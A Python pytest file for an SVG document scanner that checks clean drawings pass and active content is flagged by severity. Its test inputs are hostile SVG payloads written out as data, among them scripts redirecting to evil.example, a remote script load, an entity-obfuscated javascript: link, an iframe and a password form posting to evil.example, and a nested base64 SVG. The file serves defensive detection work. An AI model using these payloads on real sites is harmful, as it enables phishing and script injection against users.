from __future__ import annotations

import base64
import random
import time
from contextlib import suppress

import pytest
from support.opened_file import NAMED_ERRORS, all_text, found, opened, opening_of, urls

from sekisho.parse.unpack.document import svg

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">'


def look(body: str):
    return opened(svg.open_svg, f"{HEAD}{body}</svg>".encode(), "a.svg")


LOGO = """<defs><style>.a{fill:#036}</style><linearGradient id="g"><stop offset="0"/></linearGradient></defs>
<path class="a" d="M0 0h100v100z"/><use xlink:href="#g"/><text x="1" y="2">株式会社山田</text>"""


@pytest.mark.parametrize(
    "body",
    [
        LOGO,
        f'<image xlink:href="data:image/png;base64,{base64.b64encode(bytes(range(256)) * 4).decode()}"/>',
        '<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">label<br/></div></foreignObject>',
        '<a href="https://www.example.co.jp/"><rect width="9" height="9"/></a>',
        '<path d="M0 0" onboard="x"/>'[:14] + "/>",
    ],
)
def test_drawings_are_clean(body):
    assert found(look(body)) == {}


def test_words_and_links():
    opening = look(LOGO + '<a xlink:href="https://a.example/?x=1&amp;y=2"><text>click</text></a>')
    assert all_text(opening).split() == ["株式会社山田", "click"]
    assert [(link.url, link.origin) for link in opening.links] == [("https://a.example/?x=1&y=2", "href")]


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        ("<script>document.getElementById('a').style.fill='red'</script>", "medium"),
        ('<rect onmouseover="show(evt)"/>', "medium"),
        ("<script><![CDATA[window.location.href='https://evil.example/']]></script>", "high"),
        ("<svg:script>top.location = atob('aHR0cHM6Ly9ldmls')</svg:script>", "high"),
        ("<rect onload=\"eval(unescape('%61'))\"/>", "high"),
        ('<script xlink:href="https://evil.example/a.js"/>', "high"),
        ('<a xlink:href="java&#115;cript:alert(1)"><text>x</text></a>', "high"),
        ('<foreignObject><iframe src="https://evil.example/login"/></foreignObject>', "high"),
        (
            "<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([x]));a.click()</script>",
            "high",
        ),
        (
            '<a href="data:application/zip;base64,UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"/>',
            "high",
        ),
    ],
)
def test_active_content(body, severity):
    assert found(look(body))["svg-script"] == severity


def test_a_script_put_together_by_entities():
    content = b'<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>' + HEAD.encode() + b"&s;</svg>"
    assert found(opened(svg.open_svg, content)) == {"svg-script": "high"}


def test_a_form_for_a_password():
    form = '<form action="https://evil.example/p" method="post"><input type="password"/></form>'
    assert found(look(form)) == {"html-form": "high", "svg-script": "medium"}


def test_pages_and_pictures_inside_are_handed_on():
    inner = base64.b64encode(f"{HEAD}<script>location='https://evil.example'</script></svg>".encode()).decode()
    opening = look(f'<image href="data:image/svg+xml;base64,{inner}"/>')
    assert [child.name for child in opening.children] == ["data-1.svg"]
    svg.open_svg(opening.children[0])
    assert found(opening.children[0]) == {"svg-script": "high"}
    assert "https://evil.example" not in urls(opening)


def test_hostile_and_mutated_pictures():
    started = time.process_time()
    for hostile in (
        "<script ",
        "<a href=",
        "<text ",
        '<!ENTITY a "',
        ' onload="',
        "<script>",
        "<text>",
        '=" j',
        "data:a/b,",
    ):
        with suppress(*NAMED_ERRORS):
            opened(svg.open_svg, (HEAD + hostile * 60_000).encode(), seconds=10)
    assert time.process_time() - started < 40
    source = random.Random(3)
    seed = f"{HEAD}{LOGO}<script>location='x'</script><a xlink:href='https://a.example'/></svg>".encode()
    for _ in range(400):
        octets = bytearray(seed)
        for _ in range(source.randrange(1, 10)):
            octets[source.randrange(len(octets))] = source.randrange(256)
        with suppress(*NAMED_ERRORS):
            svg.open_svg(opening_of(bytes(octets)))
